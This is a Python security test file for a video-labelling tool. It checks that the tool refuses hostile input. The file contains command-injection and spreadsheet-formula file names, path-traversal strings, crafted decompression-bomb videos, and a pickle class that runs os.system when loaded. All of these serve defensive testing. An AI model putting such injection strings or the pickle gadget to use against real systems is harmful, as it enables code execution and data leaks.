"""Input made to do harm: it costs a line in the failures file or one clear line, never the run, and nothing is read or
asked that was not given."""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import random
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import av
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from tests.conftest import CountingServer
from tests.make_videos import noise_scene, numbered_frames, write_video
from tests.runs import folder_of_videos, job, label, label_ids, rows, two_scenes
from vidlabel.cli import app
from vidlabel.config import FrameSettings, Limits, SceneSettings
from vidlabel.csv_cells import guarded, unguarded
from vidlabel.cue_files import parse_cues, read_cue_file
from vidlabel.data import Video
from vidlabel.errors import InputError, VideoError
from vidlabel.executors.workers import DecodeWorkers
from vidlabel.manifest import read_inputs
from vidlabel.models.minigpt4_video.tensors import read_tensors
from vidlabel.pipeline import find_clips, sample_frames
from vidlabel.rolling_cues import read_once

ROOT = Path(__file__).parent.parent
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

NAMES = [
    "new\nline.mp4",
    "carriage\rreturn.mp4",
    "comma,comma.mp4",
    "'single' \"double\".mp4",
    "\N{CLAPPER BOARD}\N{VARIATION SELECTOR-16} 视频.mp4",
    "-i.mp4",
    "--out.mp4",
    "a..mp4",
    "a....mp4",
    "=cmd|' C calc'!A0.mp4",
    "@SUM(1+1)*cmd|' C calc'!A0.mp4",
    "+1.mp4",
    "\\..\\..\\windows.mp4",
    "%2e%2e%2fetc.mp4",
    "$(touch pwned).mp4",
    "`touch pwned`;touch pwned.mp4",
    "tab\there.mp4",
    "line\u2028end.mp4",
    "right\u202eleft.mp4",
    "c:drive.mp4",
    "*.mp4",
    "x" * 250 + ".mp4",
]


def run_cli(*args: str, stdin: str | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args), input=stdin)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


# ---- manifests and subtitles

TEXTS = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["", "a.mp4", "../../etc/passwd", "/etc/passwd", "a\0b.mp4", "http://a/b.mp4", "1e400", "-1", "nan",
                     "00:00:99", "=1+1", "\ud83d", "x" * 5000, '{"a": 1}', "[", "a.mp4\n", "file:///etc/passwd"]),
)  # fmt: skip
COLUMNS = st.sampled_from(
    [
        "video",
        "path",
        "file_name",
        "id",
        "start",
        "end",
        "subtitle",
        "question",
        "language",
        "caption",
        "x",
        "",
        "Video ",
    ]
)
VALUES = st.one_of(
    TEXTS, st.none(), st.integers(), st.floats(), st.booleans(), st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
)  # fmt: skip


def read_or_refuse(path: Path, root: Path | None) -> None:
    """One line that names the file, or videos; with a root they are all below it."""
    try:
        videos = read_inputs([str(path)], root=None if root is None else str(root), lines=None)
    except InputError as error:
        said = str(error)
        if path.name not in said and "root" not in said:
            raise
        return
    for video in videos:
        for location in (video.location, video.subtitle):
            assert location is None or root is None or Path(location).is_relative_to(root)
            assert "\0" not in (location or "")


@given(rows=st.lists(st.dictionaries(COLUMNS, VALUES, max_size=6), max_size=5), rooted=st.booleans())
@example(rows=[{"video": "x" * 5000 + ".mp4"}], rooted=True)
@example(rows=[{"video": "loop/a.mp4"}], rooted=True)
@FUZZ
def test_any_json_lines_are_read_or_refused_in_one_line(
    tmp_path: Path, rows: list[dict[str, object]], rooted: bool
) -> None:
    if not os.path.islink(tmp_path / "loop"):  # noqa: PTH114
        (tmp_path / "loop").symlink_to("loop")
    path = tmp_path / "m.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    read_or_refuse(path, tmp_path if rooted else None)


@given(
    header=st.lists(COLUMNS, max_size=5), cells=st.lists(st.lists(TEXTS, max_size=6), max_size=5), rooted=st.booleans()
)
@FUZZ
def test_any_csv_is_read_or_refused_in_one_line(
    tmp_path: Path, header: list[str], cells: list[list[str]], rooted: bool
) -> None:
    path = tmp_path / "m.csv"
    text = "\n".join(",".join(row) for row in [header, *cells])
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    read_or_refuse(path, tmp_path if rooted else None)


@given(data=st.binary(max_size=300), suffix=st.sampled_from(["csv", "tsv", "jsonl", "parquet"]))
@example(data=b"PAR1" + bytes(50) + b"PAR1", suffix="parquet")
@example(data=b"\xff\xfev\0i\0d\0e\0o\0", suffix="csv")
@example(data=b"[" * 100_000, suffix="jsonl")
@FUZZ
def test_any_bytes_as_a_manifest_are_read_or_refused_in_one_line(tmp_path: Path, data: bytes, suffix: str) -> None:
    path = tmp_path / f"m.{suffix}"
    path.write_bytes(data)
    read_or_refuse(path, None)


@pytest.mark.parametrize("seeds", [60, pytest.param(1000, marks=pytest.mark.slow)])
def test_parquet_manifest_with_flipped_bits_is_read_or_refused(tmp_path: Path, seeds: int) -> None:
    path = tmp_path / "m.parquet"
    pq.write_table(pa.table({"video": [f"{n}.mp4" for n in range(50)], "start": [float(n) for n in range(50)]}), path)
    whole = path.read_bytes()
    for seed in range(seeds):
        chance = random.Random(seed)
        changed = bytearray(whole)
        for _ in range(chance.randint(1, 8)):
            changed[chance.randrange(len(whole))] ^= 1 << chance.randrange(8)
        path.write_bytes(changed)
        read_or_refuse(path, None)


CUE_PIECES = st.sampled_from(
    ["WEBVTT\n", "\n", "1\n", "00:00:01.000 --> 00:00:02.000", "00:00:01,5 --> 00:00:00,5", "99:99:99.999 --> 1:1",
     "-->", "<v Bob>", "<00:00:01.000><c>", "{\\an8}", "&amp;", "&#x110000;", "NOTE", "STYLE", "\ufeff", "\r", "\0",
     "text", "9" * 400, "X-TIMESTAMP-MAP=LOCAL:00:00:00.000,MPEGTS:900000"]
)  # fmt: skip


@given(pieces=st.lists(st.one_of(CUE_PIECES, st.text(max_size=10)), max_size=40))
@FUZZ
def test_any_text_as_subtitles_gives_cues_in_order_or_a_reason(pieces: list[str]) -> None:
    with contextlib.suppress(ValueError):
        cues = parse_cues("".join(pieces))
        assert all(cue.start_seconds < cue.end_seconds and cue.lines for cue in cues)
        assert [cue.start_seconds for cue in cues] == sorted(cue.start_seconds for cue in cues)
        read_once(cues)


@given(data=st.binary(max_size=400))
@FUZZ
def test_any_bytes_as_subtitles_give_cues_or_a_reason(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "a.vtt"
    path.write_bytes(data)
    with contextlib.suppress(ValueError):
        read_once(read_cue_file(path))


@pytest.mark.parametrize(
    "text",
    ["<" * 300_000, "<a" * 150_000, "{\\" * 150_000, "&amp" * 100_000, "1\n" * 150_000, "-->" * 100_000, " " * 300_000],
    ids=lambda text: repr(text[:4]),
)
def test_subtitles_made_to_be_slow_are_not(text: str) -> None:
    started = time.process_time()
    with contextlib.suppress(ValueError):
        read_once(parse_cues(f"WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n{text}\n"))
    assert time.process_time() - started < 5


# ---- containers


def _headers(data: bytes) -> list[int]:
    """Where a container keeps what it says of itself: its first kilobyte, and an mp4's index."""
    places = list(range(min(1024, len(data))))
    if b"moov" in data:
        at = data.rindex(b"moov")
        places += range(at, len(data))
    return places


@pytest.mark.parametrize("seeds", [40, pytest.param(1000, marks=pytest.mark.slow)])
def test_bits_flipped_in_headers_cost_at_most_that_file(tmp_path: Path, seeds: int) -> None:
    folder, out = tmp_path / "videos", tmp_path / "labels.parquet"
    folder.mkdir()
    wholes = [
        write_video(
            tmp_path / f"whole.{kind}", numbered_frames(12), subtitles=[(0, 0.4, "text")] * (kind in ("mp4", "mkv"))
        )
        for kind in ("mp4", "mkv", "ts", "avi", "webm", "flv")
        if kind != "webm"
    ]
    for seed in range(seeds):
        chance = random.Random(seed)
        whole = wholes[seed % len(wholes)]
        data = bytearray(whole.read_bytes())
        places = _headers(bytes(data))
        for _ in range(chance.randint(1, 4)):
            data[chance.choice(places)] ^= 1 << chance.randrange(8)
        # a .ts may be TypeScript, and is known by bytes that are flipped here
        (folder / f"{seed:04}{whole.suffix.replace('.ts', '.mts')}").write_bytes(data)
    limits = Limits(num_workers=2, seconds_per_video=20, memory_mb=1024)
    summary = label(folder, job(out, limits=limits))
    assert summary.num_videos == seeds
    labelled = {row["video_path"] for row in rows(out)}
    failed = {json.loads(line)["path"] for line in _failures(out)}
    assert labelled | failed == {path.name for path in folder.iterdir()}
    assert len(labelled) > seeds // 10, "nothing was left to read: the flips were too many to say anything"


def _failures(out: Path) -> list[str]:
    path = out.with_name(out.stem + ".failures.jsonl")
    return path.read_text().splitlines() if path.exists() else []


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_picture(folder: Path) -> Path:
    """An animated PNG that claims 100,000 x 100,000 pixels and has a few kilobytes that unpack to gigabytes."""
    path = folder / "huge_picture.mp4"  # what it is, its bytes say
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    frame = struct.pack(">IIIIIHHBB", 0, 100_000, 100_000, 0, 0, 1, 25, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0))
        + _png_chunk(b"acTL", struct.pack(">II", 2, 0))
        + _png_chunk(b"fcTL", frame)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )
    return path


def huge_in_mp4(folder: Path) -> Path:
    """An mp4 whose sample entry claims 65,535 x 65,535 pixels, in a codec that believes it."""
    path = write_video(folder / "huge.mp4", numbered_frames(5), codec="mjpeg", pix_fmt="yuvj420p")
    data = bytearray(path.read_bytes())
    at = data.index(b"stsd") + 12 + 32
    data[at : at + 4] = struct.pack(">HH", 65_535, 65_535)
    picture = data.find(b"\xff\xc0")
    if picture > 0:
        data[picture + 5 : picture + 9] = struct.pack(">HH", 65_535, 65_535)
    path.write_bytes(data)
    return path


def billion_frames(folder: Path) -> Path:
    """An mp4 whose index claims a billion frames of one size."""
    path = write_video(folder / "billion.mp4", numbered_frames(5))
    data = bytearray(path.read_bytes())
    sizes = data.index(b"stsz")
    data[sizes + 8 : sizes + 16] = struct.pack(">II", 1, 1_000_000_000)  # each of one byte
    times = data.index(b"stts")
    data[times + 12 : times + 16] = struct.pack(">I", 1_000_000_000)
    chunks = data.index(b"stsc")
    data[chunks + 16 : chunks + 20] = struct.pack(">I", 1_000_000_000)
    path.write_bytes(data)
    return path


def thousand_streams(folder: Path) -> Path:
    """A NUT file of a thousand video streams."""
    path = folder / "streams.nut"
    with av.open(str(path), "w") as container:
        streams = []
        for _ in range(1000):
            stream = container.add_stream("rawvideo", rate=25)
            stream.width, stream.height, stream.pix_fmt = 16, 16, "yuv420p"
            streams.append(stream)
        frame = av.VideoFrame(16, 16, "yuv420p")
        for stream in streams:
            frame.pts = 0
            container.mux(stream.encode(frame))
    return path


def years_long(folder: Path) -> Path:
    """Two frames, the second a hundred years after the first."""
    return write_video(folder / "years.mkv", numbered_frames(2), pts=[0.0, 3.15e9], b_frames=0)


@pytest.mark.parametrize("split", ["scenes", "fixed"])
def test_a_hundred_years_are_not_cut_into_a_hundred_million_clips(tmp_path: Path, split: Any) -> None:
    path = years_long(tmp_path)
    started = time.monotonic()
    with pytest.raises(VideoError, match="more than 100000 clips"):
        find_clips(Video("v", path.name, str(path)), SceneSettings(split=split))
    assert time.monotonic() - started < 10


BOMBS: list[Callable[[Path], Path]] = [huge_picture, huge_in_mp4, billion_frames, thousand_streams]


@pytest.mark.parametrize("make", BOMBS, ids=lambda make: make.__name__)
def test_bomb_costs_itself_only_within_its_memory_and_time(tmp_path: Path, make: Callable[[Path], Path]) -> None:
    folder, out = folder_of_videos(tmp_path / "videos", 1), tmp_path / "labels.parquet"
    bomb = make(folder)
    started = time.monotonic()
    with DecodeWorkers[str](num_workers=1, memory_mb=1024) as workers:
        video = Video("v", bomb.name, str(bomb))
        workers.submit("bomb", peak_megabytes_of_labelling, video, seconds=60)
        while not (finished := workers.finished(1.0)):
            pass
        ((_, outcome),) = finished
    assert isinstance(outcome, VideoError) or outcome < 2048, outcome
    label(folder, job(out, limits=Limits(num_workers=1, seconds_per_video=60, memory_mb=1024)))
    assert time.monotonic() - started < 120
    assert [row["video_path"] for row in rows(out)].count("video000.mp4") == 2
    assert len({row["video_path"] for row in rows(out)}) + len(_failures(out)) >= 2  # said, or labelled


def peak_megabytes_of_labelling(video: Video) -> float:
    """In a worker: the stages, and the most memory that they took."""
    import resource

    for clip in find_clips(video, SceneSettings())[:2]:
        sample_frames(clip, FrameSettings(4, 32))
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


# ---- names


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "videos"
    folder.mkdir()
    whole = write_video(folder.parent / "whole.mp4", noise_scene(8, (90, 120, 40), width=32, height=32)).read_bytes()
    for name in NAMES:
        (folder / name).write_bytes(whole)
    return folder


@pytest.mark.parametrize("form", ["parquet", "jsonl"])
def test_hostile_names_are_only_names(hostile_folder: Path, tmp_path: Path, form: str) -> None:
    out = tmp_path / f"labels.{form}"
    with contextlib.chdir(tmp_path):
        code, said = run_cli("caption", str(hostile_folder), "--out", str(out), "--model", "echo", "--frames", "2")
        assert (code, sorted(path.name for path in tmp_path.iterdir())) == (
            0, sorted([out.name] + ["labels.jsonl.run.json"] * (form == "jsonl")),
        ), said  # fmt: skip
        again, said = run_cli("caption", str(hostile_folder), "--out", str(out), "--model", "echo", "--frames", "2")
    assert (again, f"{len(NAMES)} videos were labelled before" in said) == (0, True)
    made = rows(out) if form == "parquet" else [json.loads(line) for line in out.read_bytes().split(b"\n") if line]
    assert sorted(str(row["video_path"]) for row in made) == sorted(NAMES)


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_hostile_names_survive_a_manifest_and_back(hostile_folder: Path, tmp_path: Path, form: str) -> None:
    clips, out = tmp_path / f"clips.{form}", tmp_path / "labels.parquet"
    assert run_cli("split", str(hostile_folder), "--out", str(clips))[0] == 0
    assert run_cli("caption", str(clips), "--out", str(out), "--model", "echo", "--frames", "2")[0] == 0
    assert sorted(Path(str(row["video_path"])).name for row in rows(out)) == sorted(NAMES)


def test_videos_that_lead_out_of_the_root_are_not_read(tmp_path: Path) -> None:
    root, outside, out = tmp_path / "root", tmp_path / "outside", tmp_path / "labels.parquet"
    outside.mkdir()
    folder_of_videos(root, 1)
    secret = two_scenes(outside / "secret.mp4", 2)
    (root / "link.mp4").symlink_to(secret)
    (root / "folder").symlink_to(outside)
    code, said = run_cli("caption", str(root), "--root", str(root), "--out", str(out), "--model", "echo")
    assert code == 2
    assert "outside of --root" in said
    for name in ("../outside/secret.mp4", str(secret), "folder/secret.mp4", "x/../../outside/secret.mp4", "a\0b.mp4"):
        (tmp_path / "m.jsonl").write_text(json.dumps({"video": name}) + "\n")
        code, said = run_cli(
            "caption", str(tmp_path / "m.jsonl"), "--root", str(root), "--out", str(out), "--model", "echo"
        )
        assert (code, said.count("\n")) == (2, 1)
    assert not out.exists()


def test_subtitles_that_lead_out_of_the_root_are_not_read(tmp_path: Path) -> None:
    root, out = folder_of_videos(tmp_path / "root", 3), tmp_path / "labels.parquet"
    cues = "WEBVTT\n\n00:00:00.000 --> 00:00:02.400\nsome words\n"
    (tmp_path / "secret.vtt").write_text(cues)
    (root / "subs").mkdir()
    (root / "subs" / "x.vtt").write_text(cues)
    (root / "video000.vtt").symlink_to(tmp_path / "secret.vtt")
    (root / "video001.vtt").symlink_to("subs/x.vtt")
    (root / "video002.vtt").write_text(cues)
    code, _ = run_cli("caption", str(root), "--root", str(root), "--out", str(out), "--model", "echo", "--frames", "2")
    assert code == 0
    found = {row["video_path"]: (row["subtitle_source"], row["num_subtitle_words"]) for row in rows(out)}
    assert found == {
        "video000.mp4": ("unreadable", 0), "video001.mp4": ("sidecar", 2), "video002.mp4": ("sidecar", 2),
    }  # fmt: skip


# ---- what comes out


FORMULA = st.one_of(st.text(max_size=12), st.text(alphabet="'=+-@\t\r1.e ", max_size=6))


@given(FORMULA)
@settings(max_examples=300)
def test_no_cell_is_a_formula_and_all_come_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(cell)  # a plain number is no formula


def test_csv_outputs_hold_no_formula(hostile_folder: Path, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x/?"&A1)'
    manifest, clips, labels = tmp_path / "m.jsonl", tmp_path / "clips.csv", tmp_path / "labels.parquet"
    lines = [{"video": str(hostile_folder / name), "note": evil, "@col": "-1+1", "n": -5} for name in NAMES[:12]]
    manifest.write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert run_cli("split", str(manifest), "--out", str(clips))[0] == 0
    assert run_cli("caption", str(clips), "--out", str(labels), "--model", "echo", "--frames", "2")[0] == 0
    assert run_cli("check", str(labels), "--out", str(tmp_path / "labels.csv"))[0] == 0
    assert {(row["note"], row["@col"], row["n"]) for row in rows(labels)} == {(evil, "-1+1", "-5")}
    import csv

    for path in (clips, tmp_path / "labels.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            for cells in csv.reader(file):
                for cell in cells:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)
    assert run_cli("check", str(tmp_path / "labels.csv"), "--out", str(tmp_path / "back.jsonl"))[0] == 0
    back = [json.loads(line) for line in (tmp_path / "back.jsonl").read_bytes().split(b"\n") if line]
    assert {(row["note"], row["@col"]) for row in back} == {(evil, "-1+1")}


# ---- weights and addresses


class _Poison:
    """A pickle that runs a command when it is loaded."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.mark}",)


@pytest.mark.filterwarnings("ignore:Detected pickle protocol:UserWarning")
@pytest.mark.parametrize("legacy", [False, True], ids=["zip", "plain pickle"])
def test_poisoned_checkpoint_is_refused_and_runs_nothing(tmp_path: Path, legacy: bool) -> None:
    mark, path = tmp_path / "pwned", tmp_path / "video_checkpoint.pth"
    torch.save({"model": _Poison(mark)}, path, _use_new_zipfile_serialization=not legacy)
    with pytest.raises(InputError, match=r"video_checkpoint\.pth"):
        read_tensors(path)
    path.write_bytes(pickle.dumps(_Poison(mark)))
    with pytest.raises(InputError, match=r"video_checkpoint\.pth"):
        read_tensors(path)
    assert not mark.exists()
    plain = io.BytesIO()
    torch.save({"model": _Poison(mark)}, plain)
    plain.seek(0)
    torch.load(plain, weights_only=False)
    assert mark.exists(), "the trap would not have sprung"


LISTENS = """
import sys
def hook(event, args, asked=frozenset(("socket.connect", "socket.getaddrinfo", "socket.sendto"))):
    if event in asked and not isinstance(args[-1], (str, bytes)):
        sys.stderr.write(f"NETWORK {event} {args}\\n")
        sys.stderr.flush()
sys.addaudithook(hook)
"""


@pytest.mark.parametrize("model", ["echo", pytest.param("shapes", marks=pytest.mark.slow)])
def test_no_run_asks_the_network_for_anything(tmp_path: Path, counting_server: CountingServer, model: str) -> None:
    """Neither Python, in run, fork server and workers, nor a decoder: everything that names an address names ours."""
    from tests import make_bad_videos as bad

    folder = folder_of_videos(tmp_path / "videos", 1)
    for name, make in bad.POINTERS.items():
        make(folder / f"{name}.mp4", counting_server.url)
    (folder / "video000.vtt").write_text(f"WEBVTT\n\n00:00.000 --> 00:02.000\n{counting_server.url}\n")
    (tmp_path / "sitecustomize.py").write_text(LISTENS)
    env = os.environ | {"PYTHONPATH": f"{tmp_path}:{ROOT}"}
    args = ["caption", str(folder), "--out", str(tmp_path / "labels.parquet"), "--model", model, "--prompts"]
    whole = [sys.executable, "-m", "vidlabel", *args, "caption-short"]
    done = subprocess.run(whole, cwd=ROOT, env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 3, done.stderr
    assert "NETWORK" not in done.stderr, done.stderr
    assert len(label_ids(tmp_path / "labels.parquet")) == 2
    assert counting_server.asked == []
